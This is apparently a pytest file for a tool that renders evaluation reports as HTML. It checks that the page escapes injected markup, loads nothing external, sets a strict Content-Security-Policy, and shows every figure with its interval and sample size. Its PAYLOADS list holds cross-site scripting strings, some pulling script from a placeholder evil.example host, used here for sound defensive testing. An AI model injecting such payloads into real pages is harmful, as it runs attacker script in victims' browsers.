"""Facts about the report: it is whole, inert, self-contained, and shows no figure without its interval and n."""

import base64
import hashlib
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from pydantic import BaseModel

from tasks.adapters.report.charts import axis, trend
from tasks.adapters.report.render import render_note, render_report
from tasks.domain.cycle import Cycle, Window
from tasks.domain.estimate import Estimate
from tasks.domain.verdict import Accounting
from tasks.stats.proportion import rate_difference

MakeCycle = Callable[..., Cycle]
VOID = {"meta", "link", "br", "hr", "img", "input", "line", "circle", "base"}


class Page(HTMLParser):
    """A page as a browser sees it: elements with their attributes, and the text inside those of a class."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[tuple[str, set[str]]] = []
        self.texts: list[tuple[str, set[str], set[str]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append((tag, set((dict(attrs).get("class") or "").split())))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> closes nothing"
        assert self.open.pop()[0] == tag

    def handle_data(self, text: str) -> None:
        classes = set().union(*(classes for _, classes in self.open)) if self.open else set()
        self.texts.append((text, {tag for tag, _ in self.open}, classes))

    @property
    def visible(self) -> str:
        return " ".join(" ".join(text for text, tags, _ in self.texts if "style" not in tags).split())

    def within(self, name: str) -> str:
        return " ".join(text for text, _, classes in self.texts if name in classes)

    def tags(self, name: str) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.elements if tag == name]


def page(cycle: Cycle, history: tuple[Cycle, ...] = ()) -> Page:
    return Page(render_report(cycle, history))


def estimates_of(value: Any) -> Iterator[Estimate]:
    if isinstance(value, Estimate):
        yield value
    elif isinstance(value, BaseModel):
        for name in type(value).model_fields:
            yield from estimates_of(getattr(value, name))
    elif isinstance(value, dict):
        for each in value.values():
            yield from estimates_of(each)
    elif isinstance(value, tuple):
        for each in value:
            yield from estimates_of(each)


def poisoned(value: Any, payload: str, path: str = "") -> Any:
    """The value with a payload in every text that is free to hold one, keys included."""
    kept = {"state", "decision", "gate"}
    match value:
        case str():
            return value if path in kept else f"{value}{payload}"
        case dict() if path in {"judge", "estimates", "accounting", "criteria"}:
            return {key: poisoned(each, payload, path) for key, each in value.items()}
        case dict() if path in {"steps", "parameters", "quarantined", "dropped"}:
            return {f"{key}{payload}": poisoned(each, payload) for key, each in value.items()}
        case dict():
            return {key: poisoned(each, payload, key) for key, each in value.items()}
        case list() | tuple():
            return [poisoned(each, payload, path) for each in value]
    return value


PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=http://evil.example/x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</style><script src=//evil.example/x.js></script>",
    "</pre></details><iframe src=javascript:alert(1)></iframe>",
    "{{ 7 * 7 }}{% raw %}<base href=//evil.example>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_in_any_text_is_shown_and_does_nothing(made_cycle: MakeCycle, payload: str) -> None:
    history = (made_cycle("2026-03-04"),)
    content = made_cycle(simulated=True).model_dump()
    harmless = page(Cycle.model_validate(poisoned(content, "x" * len(payload))), history)
    shown = page(Cycle.model_validate(poisoned(content, payload)), history)
    assert [tag for tag, _ in shown.elements] == [tag for tag, _ in harmless.elements]
    assert [sorted(attributes) for _, attributes in shown.elements] == [sorted(each) for _, each in harmless.elements]
    assert shown.visible.count(payload) > 60


def test_the_page_loads_nothing_and_runs_nothing(made_cycle: MakeCycle) -> None:
    text = render_report(made_cycle(simulated=True), [made_cycle("2026-03-04")])
    shown = Page(text)
    for tag, attributes in shown.elements:
        assert tag not in {"script", "link", "iframe", "object", "embed", "form", "base", "img"}
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        for name in ("src", "href", "action", "data", "srcset", "xlink:href"):
            assert (attributes.get(name) or "#").startswith("#"), f"{tag} {name} leads outside"
    assert "url(" not in text
    assert "@import" not in text


def test_the_policy_allows_this_style_sheet_and_nothing_else(made_cycle: MakeCycle) -> None:
    text = render_report(made_cycle(), [])
    style = re.search(r"<style>(.*?)</style>", text, re.DOTALL)
    assert style
    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
    policy = next(each for each in Page(text).tags("meta") if each.get("http-equiv") == "Content-Security-Policy")
    allowed = f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert policy["content"] == allowed


def test_every_estimate_of_the_cycle_is_shown_with_its_interval_n_and_method(made_cycle: MakeCycle) -> None:
    cycle = made_cycle()
    text = render_report(cycle, [])
    found = re.findall(
        r'<span class="estimate" title="95% interval; ([^"]+)"><span class="value">([^<]+)</span> '
        r'<span class="interval">\[([^<]+)\]</span> <span class="n">n&nbsp;=&nbsp;([\d,]+)</span></span>',
        text,
    )
    assert len(found) == text.count('class="estimate"')
    values = {(value, n.replace(",", "")) for _, value, _, n in found}
    for each in estimates_of(cycle):
        assert each.value is not None
        sign = "−" if round(100 * each.value, 1) < 0 else "+"
        forms = (f"{100 * each.value:.1f}%", f"{sign}{abs(100 * each.value):.1f} points", f"{each.value:.2f}")
        assert any((form, str(each.n)) in values for form in forms), each


def test_no_rate_stands_outside_an_estimate(made_cycle: MakeCycle) -> None:
    without = made_cycle(production=0.9, comparison=None, trust=())
    for shown in (page(made_cycle()), page(made_cycle(), (made_cycle("2026-03-04"),)), page(without)):
        bare = [text for text, _, classes in shown.texts if re.search(r"\d\.\d%", text) and "estimate" not in classes]
        assert bare == []


def test_an_unknown_figure_says_why(made_cycle: MakeCycle) -> None:
    unknown = Estimate.unknown("all 400 verdicts failed", n=400)
    cycle = made_cycle(estimates={"production_pass_rate": unknown, "benchmark_pass_rate": unknown}, comparison=None)
    shown = page(cycle)
    assert "Production's pass rate is not known this cycle" in shown.visible
    assert "unknown: all 400 verdicts failed" in shown.visible
    assert "None" not in shown.visible


@pytest.mark.parametrize(
    ("now", "headline"),
    [
        (0.86, "Production is better than last cycle"),
        (0.68, "Production is worse than last cycle"),
        (0.775, "Production shows no clear change since last cycle"),
    ],
)
def test_the_headline_says_whether_production_is_better(made_cycle: MakeCycle, now: float, headline: str) -> None:
    shown = page(made_cycle(production=now), (made_cycle("2026-03-03", production=0.5), made_cycle("2026-03-04")))
    assert headline in shown.visible
    assert "since cycle 2026-03-04" in shown.visible


def test_rates_by_two_judges_are_not_compared(made_cycle: MakeCycle) -> None:
    before = made_cycle("2026-03-04", judge={"overall": "b2-another"})
    cycle = made_cycle(production=0.95)
    shown = page(cycle, (before,))
    assert "Production cannot be compared with the last cycle" in shown.visible
    assert "the judge has changed since" in shown.visible
    assert trend(cycle, [before]).lines("production") == []
    assert len(trend(made_cycle(), [made_cycle("2026-03-04")]).lines("production")) == 1


def test_a_simulated_world_is_named_at_the_top_and_at_every_figure(made_cycle: MakeCycle) -> None:
    shown = page(made_cycle(simulated=True))
    assert shown.visible.index("Simulated.") < shown.visible.index("The first figures")
    headings = len(re.findall(r"<h2", render_report(made_cycle(simulated=True), [])))
    without_figures = 2
    assert shown.within("chip").count("simulated") >= headings - without_figures
    assert "imulated" not in page(made_cycle()).visible


def test_a_judge_without_labels_is_called_untrusted(made_cycle: MakeCycle) -> None:
    assert "The judge is untrusted." in page(made_cycle(trust=())).visible
    none_yet = tuple(each.model_copy(update={"labelled": 0}) for each in made_cycle().trust)
    assert "The judge is untrusted." in page(made_cycle(trust=none_yet)).visible
    assert "The judge is untrusted." not in page(made_cycle()).visible


def test_a_cycle_with_nothing_but_production_still_reads(made_cycle: MakeCycle) -> None:
    cycle = made_cycle(
        trust=(),
        comparison=None,
        failures=(),
        quarantined={},
        notes=(),
        estimates={"production_pass_rate": made_cycle().estimates["production_pass_rate"]},
        accounting={"production": Accounting(n=4, judged=4)},
        window=Window(since="", until="", traces=9, sampled=4, tenants=9, has_times=False, has_tenants=False),
    )
    text = page(cycle).visible
    for sentence in (
        "The first figures: there is no earlier cycle to compare production with",
        "production without times: everything that was ingested",
        "4 of 9 traces sampled, from 9 conversations",
        "no benchmark: name one under [benchmark]",
        "No candidate was mirrored in this cycle.",
        "No failures were found",
        "there are no labels yet",
        "No row was refused at the door.",
    ):
        assert sentence in text
    assert "None" not in text


def test_each_failure_brings_the_command_that_shows_all_of_it(made_cycle: MakeCycle) -> None:
    text = page(made_cycle()).visible
    assert "flywheel show trace-0042" in text
    assert "flywheel show 'it'\"'\"'s odd; id'" in text


def test_long_texts_are_folded_and_endless_ones_cut(made_cycle: MakeCycle) -> None:
    group = made_cycle().failures[0]
    example = group.examples[0].model_copy(update={"output": "word " * 4000})
    text = render_report(made_cycle(failures=(group.model_copy(update={"examples": (example,)}),)), [])
    assert "14,000 more characters" in text
    assert text.count("word ") < 1400


def test_of_many_groups_of_failures_the_largest_are_shown_and_the_rest_counted(made_cycle: MakeCycle) -> None:
    group = made_cycle().failures[0]
    many = tuple(group.model_copy(update={"stratum": f"stratum {n}", "count": n}) for n in range(1, 31))
    text = page(made_cycle(failures=many)).visible
    assert "stratum 30" in text
    assert "stratum 10:" not in text
    assert f"10 smaller groups hold {sum(range(1, 11))} more failures." in text


def test_half_a_character_does_not_break_the_page(made_cycle: MakeCycle) -> None:
    assert "a?b" in render_report(made_cycle(notes=("a\ud800b",)), []).encode().decode()


def test_the_accounting_of_every_table_is_shown_and_adds_up(made_cycle: MakeCycle) -> None:
    shown = page(made_cycle())
    for name, each in made_cycle().accounting.items():
        assert f"{name} {each.n} {each.judged} {each.abstained} {each.failed} {each.skipped}" in shown.visible
    assert "376 judged + 0 abstained + 8 failed + 4 skipped = 388" in shown.visible


def test_pictures_tables_and_landmarks_can_be_read_aloud(made_cycle: MakeCycle) -> None:
    text = render_report(made_cycle(), [made_cycle("2026-03-04")])
    shown = Page(text)
    assert all(each.get("aria-label") or each.get("aria-hidden") == "true" for each in shown.tags("svg"))
    assert [attributes.get("lang") for attributes in shown.tags("html")] == ["en"]
    assert {"header", "main", "footer"} <= {tag for tag, _ in shown.elements}
    assert len(shown.tags("h1")) == 1
    assert all(each.get("scope") for each in shown.tags("th"))
    sections = [each["aria-labelledby"] for each in shown.tags("section") if "aria-labelledby" in each]
    assert sections == re.findall(r'<h2 id="(?!notes-title|small-print)([a-z-]+)"', text)


@pytest.mark.parametrize(
    ("values", "ticks"),
    [
        ([0.771, 0.913], (0.75, 0.8, 0.85, 0.9, 0.95)),
        ([-0.031, 0.049], (-0.04, -0.02, 0.0, 0.02, 0.04, 0.06)),
        ([0.5, 0.5], (0.5, 0.51)),
        ([1.0], (0.99, 1.0)),
        ([], (0.0, 0.25, 0.5, 0.75, 1.0)),
    ],
)
def test_an_axis_has_round_ticks_around_its_values(values: list[float], ticks: tuple[float, ...]) -> None:
    estimates = [Estimate(value=value, n=1, method="m") for value in values]
    assert axis(estimates, within=(-1.0, 1.0)).ticks == ticks


def test_a_stratum_of_a_few_pairs_stands_last_and_does_not_stretch_the_picture(made_cycle: MakeCycle) -> None:
    comparison = made_cycle().comparison
    assert comparison
    wide = Estimate(value=0.9, low=-1.0, high=1.0, n=2, method="m")
    few = comparison.strata[0].model_copy(update={"stratum": "rare", "delta": wide})
    unknown = few.model_copy(update={"stratum": "empty", "delta": Estimate.unknown("no pairs")})
    more = comparison.model_copy(update={"strata": (few, unknown, *comparison.strata)})
    shown = page(made_cycle(comparison=more))
    order = ["Strata of fewer than 15 pairs", "rare +90.0 points", "empty unknown: no pairs", "By criterion"]
    places = [shown.visible.index(text) for text in ["By stratum, the worst first", *order]]
    assert places == sorted(places)
    assert len(shown.tags("circle")) == len(page(made_cycle()).tags("circle"))
    assert "−100" not in shown.visible.replace("−100.0", "")


def test_the_note_holds_the_headline_figures(made_cycle: MakeCycle) -> None:
    note = render_note(made_cycle(simulated=True).compared([made_cycle("2026-03-04")], rate_difference))
    assert "**Simulated**" in note
    assert "**77.1%** [75.0 to 79.2%], n = 396" in note
    assert "Since cycle 2026-03-04" in note
    assert "**INCONCLUSIVE**" in note
